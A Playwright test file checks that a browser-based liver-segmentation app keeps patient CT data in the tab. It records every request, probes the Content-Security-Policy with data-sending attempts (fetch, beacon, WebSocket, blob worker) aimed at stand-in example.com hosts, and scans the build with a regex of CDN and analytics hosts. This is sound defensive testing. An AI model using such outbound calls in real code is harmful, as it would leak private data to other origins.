// Privacy, proven: patient data never leaves the tab. The whole journey (the demo and a real
// 3D-IRCADb patient: ingest, preprocess, train, segment, export) runs while every request of the
// browser context is recorded — pages, dedicated workers and the service worker — and the test fails
// on any request to an origin other than the app's own. The production Content-Security-Policy is
// shown to be live (requests to other origins are blocked and reported), and the built files are
// scanned for scripts, fonts, WASM or data fetched from CDNs.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { test as baseTest, type Page } from '@playwright/test';
import { test, expect, realPatient, repoRoot } from './fixtures';
import { readNifti } from '../src/export/nifti';
import { readDicomSeg } from '../src/export/dicomSeg';

// This spec is about the service worker (offline cache, requests it makes): let it register.
test.use({ serviceWorkers: 'allow' });

interface Violation {
  directive: string;
  blocked: string;
}

/** Tries to reach another origin in every way a page (or a worker it starts) could; returns the CSP violations seen. */
async function probeOtherOrigins(page: Page): Promise<{ violations: Violation[]; outcomes: Record<string, string> }> {
  return page.evaluate(async () => {
    const violations: { directive: string; blocked: string }[] = [];
    const onViolation = (e: SecurityPolicyViolationEvent) => violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
    document.addEventListener('securitypolicyviolation', onViolation);
    const settle = (p: Promise<unknown>) => p.then(() => 'succeeded', (e: unknown) => `refused: ${e instanceof Error ? e.name : String(e)}`);
    const outcomes: Record<string, string> = {};
    outcomes.fetch = await settle(fetch('https://example.com/upload', { method: 'POST', body: 'patient data' }));
    outcomes.xhr = await settle(
      new Promise((ok, fail) => {
        const x = new XMLHttpRequest();
        x.open('GET', 'https://example.org/beacon');
        x.onload = ok;
        x.onerror = () => fail(new Error('xhr error'));
        try {
          x.send();
        } catch (e) {
          fail(e);
        }
      }),
    );
    try {
      outcomes.beacon = navigator.sendBeacon('https://example.net/collect', 'x') ? 'queued' : 'refused';
    } catch (e) {
      outcomes.beacon = `refused: ${e instanceof Error ? e.name : String(e)}`;
    }
    outcomes.image = await settle(
      new Promise((ok, fail) => {
        const img = new Image();
        img.onload = ok;
        img.onerror = () => fail(new Error('image error'));
        img.src = 'https://example.com/pixel.png';
      }),
    );
    const analytics = 'https://cdn.example.com/analytics.js';
    outcomes.script = await settle(import(/* @vite-ignore */ analytics));
    outcomes.websocket = await settle(
      new Promise((ok, fail) => {
        try {
          const ws = new WebSocket('wss://example.com/socket');
          ws.onopen = ok;
          ws.onerror = () => fail(new Error('websocket error'));
        } catch (e) {
          fail(e);
        }
      }),
    );
    // A worker started from a blob: URL (code the page made up) is not allowed to run at all: worker-src 'self'.
    outcomes.blobWorker = await new Promise<string>((ok) => {
      try {
        const worker = new Worker(URL.createObjectURL(new Blob(["fetch('https://example.com/from-worker')"], { type: 'text/javascript' })));
        worker.onerror = () => ok('refused: error event');
        setTimeout(() => ok('started'), 2000);
      } catch (e) {
        ok(`refused: ${e instanceof Error ? e.name : String(e)}`);
      }
    });
    await new Promise((r) => setTimeout(r, 500));
    document.removeEventListener('securitypolicyviolation', onViolation);
    return { violations, outcomes };
  });
}

/** The policy of the page's CSP meta, as directive → sources. */
async function pageCsp(page: Page): Promise<Record<string, string[]>> {
  const content = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(content, 'the page has a Content-Security-Policy meta').toBeTruthy();
  return Object.fromEntries(
    content!
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name, sources]),
  );
}

function downloads(page: Page) {
  const saved: { name: string; path: string }[] = [];
  page.on('download', async (d) => {
    const path = await d.path();
    saved.push({ name: d.suggestedFilename(), path });
  });
  return async (click: () => Promise<unknown>, suffix: string, timeout = 120_000): Promise<Uint8Array> => {
    const before = saved.length;
    await click();
    await expect.poll(() => saved.slice(before).some((s) => s.name.endsWith(suffix)), { timeout }).toBe(true);
    return new Uint8Array(readFileSync(saved.slice(before).find((s) => s.name.endsWith(suffix))!.path));
  };
}

test('the whole journey with a real patient (ingest, preprocess, train, segment, export) sends nothing to any other origin', async ({ page, context, baseURL }) => {
  test.setTimeout(1_500_000);
  const own = new URL(baseURL!).origin;
  const foreign: string[] = [];
  const seen = { total: 0, serviceWorker: 0, workerScripts: 0, wasm: 0 };
  context.on('request', (req) => {
    const url = req.url();
    if (url.startsWith('data:') || url.startsWith('blob:')) return;
    seen.total++;
    if (req.serviceWorker()) seen.serviceWorker++;
    if (/\.worker-[\w-]+\.js$/.test(url)) seen.workerScripts++;
    if (url.endsWith('.wasm')) seen.wasm++;
    if (new URL(url).origin !== own) foreign.push(`${req.method()} ${url}${req.serviceWorker() ? ' (service worker)' : ''}`);
  });
  page.on('websocket', (ws) => foreign.push(`websocket ${ws.url()}`));
  const save = downloads(page);

  await page.goto('/');

  // The demo phantoms, cached and exported as HDF5 (one size: the format needs it).
  await page.getByRole('button', { name: 'Try the demo dataset' }).click();
  await expect(page.getByTestId('patient-row')).toHaveCount(3);
  await page.getByRole('button', { name: /Preprocess and cache 3 patients/ }).click();
  await expect(page.getByTestId('preprocess-status')).toContainText('Done', { timeout: 120_000 });
  const demo = page.getByTestId('dataset-row').first();
  const h5 = await save(() => demo.getByRole('button', { name: 'Export HDF5' }).click(), '.h5', 300_000).catch(async (e) => {
    throw new Error(`no HDF5 download; the dataset row says: ${await demo.textContent()}`, { cause: e });
  });
  expect(Buffer.from(h5.subarray(0, 8))).toEqual(Buffer.from([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a]));

  // A real patient's folder (its two official zips) joins them: ingest and cache all four.
  await page.getByTestId('folder-input').setInputFiles(realPatient('3Dircadb1.17'));
  await expect(page.getByTestId('patient-row')).toHaveCount(4, { timeout: 180_000 });
  await page.getByRole('button', { name: /Preprocess and cache 4 patients/ }).click();
  await expect(page.getByTestId('preprocess-status')).toContainText('Done', { timeout: 600_000 });

  // Train: the smallest settings, one epoch (a few steps).
  await page.getByRole('tab', { name: 'Train' }).click();
  // The dataset with the real patient (the demo's own dataset is the other one).
  const datasetSelect = page.getByTestId('run-setup').locator('label', { hasText: /^Dataset/ }).locator('select');
  const withRealPatient = datasetSelect.locator('option', { hasText: /3Dircadb1\.17|4 patients/ }).first();
  await datasetSelect.selectOption((await withRealPatient.getAttribute('value'))!);
  await expect(page.getByLabel('3Dircadb1.17 role')).toBeVisible();
  await page.getByLabel('Base filters').fill('4');
  await page.getByLabel('Input size (px)').fill('64');
  await page.getByLabel('Epochs').fill('1');
  await page.getByLabel('Phantom.1 role').selectOption('skip');
  await page.getByLabel('Phantom.2 role').selectOption('skip');
  await page.getByRole('button', { name: 'Start training' }).click();
  await expect(page.getByTestId('run-status')).toHaveText('finished', { timeout: 600_000 });
  const model = page.locator('[data-testid=model-row][data-source=run]');
  await expect(model).toHaveCount(1);
  const modelJson = JSON.parse(new TextDecoder().decode(await save(() => model.getByRole('button', { name: 'Export' }).click(), '.json')));
  expect(modelJson.modelTopology).toBeTruthy();

  // Segment the real patient and export the result: NIfTI, DICOM SEG (referencing its CT), PNG.
  await page.getByRole('tab', { name: 'View' }).click();
  const viewer = page.getByRole('region', { name: 'Viewer' });
  await viewer.getByLabel('Patient', { exact: true }).selectOption({ label: '3Dircadb1.17' });
  await expect(viewer.getByTestId('viewer-viewport').locator('canvas').first()).toBeVisible();
  await expect(viewer.getByLabel('Model')).not.toHaveValue('');
  await viewer.getByRole('button', { name: 'Segment this patient' }).click();
  await expect(viewer.getByTestId('patient-metrics')).toBeVisible({ timeout: 300_000 });
  const nifti = readNifti(await save(() => viewer.getByRole('button', { name: 'Export NIfTI' }).click(), '.nii.gz'));
  const seg = readDicomSeg(await save(() => viewer.getByRole('button', { name: 'Export DICOM SEG' }).click(), '.seg.dcm'));
  expect(seg.frames).toBe(nifti.dims[2]);
  expect(new Set(seg.referencedSopInstanceUids).size).toBe(nifti.dims[2]);
  const png = await save(() => viewer.getByRole('button', { name: 'Export PNG montage' }).click(), '.png');
  expect(Buffer.from(png.subarray(1, 4)).toString()).toBe('PNG');

  // The recorder saw the workers and their WASM (and the service worker's precache fetches), so it was listening.
  console.log(`[measure] requests recorded at the context level: ${JSON.stringify(seen)}`);
  expect(seen.workerScripts).toBeGreaterThan(0);
  expect(seen.wasm).toBeGreaterThan(0);
  expect(seen.serviceWorker).toBeGreaterThan(0);
  expect(foreign, 'requests to origins other than the app (pages, workers, service worker)').toEqual([]);
});

// Run apart from the journey, with its own recorder: the probes are requests the page *attempts*, and each
// must be stopped by the CSP inside the browser (net::ERR_BLOCKED_BY_CSP), never sent.
baseTest('the production Content-Security-Policy is live: every attempt to reach another origin is blocked in the browser and reported', async ({ page, context, baseURL }) => {
  const own = new URL(baseURL!).origin;
  const attempts = new Map<string, string>(); // url → how it ended
  context.on('request', (req) => {
    if (/^(https?|wss?):/.test(req.url()) && new URL(req.url()).origin !== own) attempts.set(req.url(), 'pending');
  });
  context.on('requestfailed', (req) => {
    if (attempts.has(req.url())) attempts.set(req.url(), req.failure()?.errorText ?? 'failed');
  });
  context.on('requestfinished', (req) => {
    if (attempts.has(req.url())) attempts.set(req.url(), 'SENT');
  });
  const sockets: string[] = [];
  page.on('websocket', (ws) => sockets.push(ws.url()));
  await page.goto('/');
  await expect(page.getByRole('heading', { name: /segment the liver/i })).toBeVisible();
  // The production policy: everything from the app's origin; connections and workers to it only (index.html says why each relaxation).
  const csp = await pageCsp(page);
  expect(csp['default-src']).toEqual(["'self'"]);
  expect(csp['connect-src']).toEqual(["'self'"]);
  expect(csp['worker-src']).toEqual(["'self'"]);
  expect(csp['script-src']!.sort()).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  for (const [directive, sources] of Object.entries(csp))
    for (const s of sources) expect(s, `${directive} allows only the app's origin and local URLs`).toMatch(/^('[\w-]+'|blob:|data:)$/);
  // ... and it is live: every way out is refused and reported.
  const { violations, outcomes } = await probeOtherOrigins(page);
  console.log(`[measure] attempts to reach other origins: ${JSON.stringify(outcomes)}`);
  for (const way of ['fetch', 'xhr', 'image', 'script', 'websocket', 'blobWorker']) expect(outcomes[way], way).toMatch(/^refused/);
  const blocked = violations.map((v) => `${v.directive} ${v.blocked}`);
  for (const b of [
    'connect-src https://example.com/upload',
    'connect-src https://example.org/beacon',
    'connect-src https://example.net/collect',
    'img-src https://example.com/pixel.png',
    'script-src-elem https://cdn.example.com/analytics.js',
    'connect-src wss://example.com/socket',
  ])
    expect(blocked).toContain(b);
  expect(blocked).toContain('worker-src blob');

  // The app's own workers are bound too (a worker's policy comes from its script's response header, which the
  // production server sends): a fetch to another origin from inside each running worker is blocked and reported.
  await page.getByRole('button', { name: 'Try the demo dataset' }).click();
  await expect(page.getByTestId('patient-row')).toHaveCount(3);
  const appWorkers = page.workers().filter((w) => /\.worker-[\w-]+\.js$/.test(w.url()));
  expect(appWorkers.length).toBeGreaterThan(0);
  for (const w of appWorkers) {
    const header = (await context.request.get(w.url())).headers()['content-security-policy'] ?? '';
    expect(header, `${w.url()} is served with the policy`).toMatch(/connect-src 'self'(;|$)/);
    const result = await w.evaluate(async () => {
      let violation = 'no violation';
      const onViolation = (e: SecurityPolicyViolationEvent) => (violation = `${e.effectiveDirective} ${e.blockedURI}`);
      self.addEventListener('securitypolicyviolation', onViolation);
      const outcome = await fetch('https://example.com/from-app-worker').then(() => 'succeeded', (e: Error) => `refused: ${e.name}`);
      await new Promise((r) => setTimeout(r, 200));
      self.removeEventListener('securitypolicyviolation', onViolation);
      return `${outcome}, ${violation}`;
    });
    expect(result, w.url()).toBe('refused: TypeError, connect-src https://example.com/from-app-worker');
  }
  console.log(`[measure] app workers checked for the policy: ${appWorkers.map((w) => w.url().replace(/^.*\//, '')).join(', ')}`);

  // Whatever the browser reported as a request was stopped by the policy, not sent (and no socket opened).
  await expect.poll(() => [...attempts.values()].filter((v) => v === 'pending').length).toBe(0);
  console.log(`[measure] other-origin requests seen by Playwright: ${JSON.stringify(Object.fromEntries(attempts))}`);
  for (const [url, end] of attempts) expect(end, url).toMatch(/^(csp|net::ERR_BLOCKED_BY_CSP)$/);
  expect(sockets).toEqual([]);
});

// ---------------------------------------------------------------------------------------------
// The built app (the very files this run serves) loads nothing from CDNs.

/** Where a URL in built code is loaded rather than merely mentioned (licence headers, XML namespaces, doc links). */
const LOADING_CONTEXT = /(import\s*\(|importScripts\s*\(|fetch\s*\(|new\s+Worker\s*\(|new\s+SharedWorker\s*\(|new\s+WebSocket\s*\(|new\s+EventSource\s*\(|sendBeacon\s*\(|setWasmPaths\s*\(|locateFile|\bsrc\s*[=:]|\bhref\s*=|url\s*\(|@import|rootURL\s*:|\.open\s*\(\s*["'`]\w+["'`]\s*,)\s*["'`]?$/;
/** Hosts that serve scripts, fonts, models or analytics to web pages. */
const CDN_HOST = /(^|\.)(jsdelivr\.net|unpkg\.com|cdnjs\.cloudflare\.com|googleapis\.com|gstatic\.com|esm\.sh|skypack\.dev|jspm\.io|tfhub\.dev|kaggle\.com|googletagmanager\.com|google-analytics\.com|doubleclick\.net|sentry\.io|segment\.(io|com)|mixpanel\.com|hotjar\.com|plausible\.io|cloudflareinsights\.com|fontawesome\.com|typekit\.net|bootstrapcdn\.com)$|^cdn\./;
/** A URL naming something a page would load: code, styles, fonts, WASM, model files. */
const LOADABLE_PATH = /\.(m?js|wasm|css|woff2?|ttf|otf|eot|data|bin)$|model\.json$/;
/** URLs in the bundled libraries that are dead code, with the reason (the CSP would block them anyway). */
const KNOWN_INERT = new Map([['http://quantome.org:4242/dcm4chee-arc/aets/DCM4CHEE', "dcmjs's DICOMWEB.tests() example server: a method the app never calls"]]);

function remoteLoads(text: string): string[] {
  const found: string[] = [];
  for (const m of text.matchAll(/(?:https?|wss?):\/\/[^\s"'`()<>\\,;{}]+/g)) {
    const url = m[0].replace(/[.:]+$/, '');
    if (KNOWN_INERT.has(url)) continue;
    const parsed = URL.canParse(url) ? new URL(url) : null;
    if (!parsed) continue;
    const [host, path] = [parsed.hostname, parsed.pathname];
    const before = text.slice(Math.max(0, m.index! - 40), m.index!);
    if (CDN_HOST.test(host) || LOADABLE_PATH.test(path) || LOADING_CONTEXT.test(before)) found.push(`${url}  (…${before.slice(-24).replace(/\s+/g, ' ')})`);
  }
  return found;
}

test('the built app loads no script, font, WASM or data from another origin', () => {
  // The scanner flags what it must, and only that.
  expect(remoteLoads(`<script src="https://unpkg.com/react@19/umd/react.js"></script>`)).toHaveLength(1);
  expect(remoteLoads(`@import url(https://fonts.googleapis.com/css2?family=Inter);`)).toHaveLength(1);
  expect(remoteLoads(`setWasmPaths("https://cdn.jsdelivr.net/npm/@tensorflow/tfjs-backend-wasm/dist/")`)).toHaveLength(1);
  expect(remoteLoads(`n=await fetch("https://example.org/v1/upload",{method:"POST"})`)).toHaveLength(1);
  expect(remoteLoads(`const w="https://models.example.com/unet/model.json"`)).toHaveLength(1);
  expect(remoteLoads(`e.createElementNS("http://www.w3.org/2000/svg","svg") /* http://www.apache.org/licenses/LICENSE-2.0 */ see https://react.dev/errors/`)).toEqual([]);

  const port = process.env.E2E_PORT ?? '5199';
  const dist = join(repoRoot, '.e2e-dist', port);
  const files: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const p = join(dir, name);
      if (statSync(p).isDirectory()) walk(p);
      else files.push(p);
    }
  };
  walk(dist);
  const text = files.filter((f) => /\.(html|m?js|css|webmanifest|json|svg)$/.test(f));
  expect(text.some((f) => f.endsWith('index.html')), `the build under test is in ${dist}`).toBe(true);
  expect(text.some((f) => f.endsWith('sw.js'))).toBe(true);
  const offending = text.flatMap((f) => remoteLoads(readFileSync(f, 'utf8')).map((u) => `${relative(dist, f)}: ${u}`));
  expect(offending).toEqual([]);
  // Every WASM binary is a file of the app (none is fetched from elsewhere, none is missing).
  const wasm = files.filter((f) => f.endsWith('.wasm')).map((f) => relative(dist, f));
  console.log(`[measure] scanned ${text.length} built text files; WASM served locally: ${wasm.join(', ')}`);
  expect(wasm.length).toBeGreaterThanOrEqual(3);
  // index.html links only the app's own files.
  const html = readFileSync(join(dist, 'index.html'), 'utf8');
  for (const m of html.matchAll(/\b(?:src|href)="([^"]+)"/g)) expect(m[1], 'index.html links its own files only').toMatch(/^\/(?!\/)/);
});
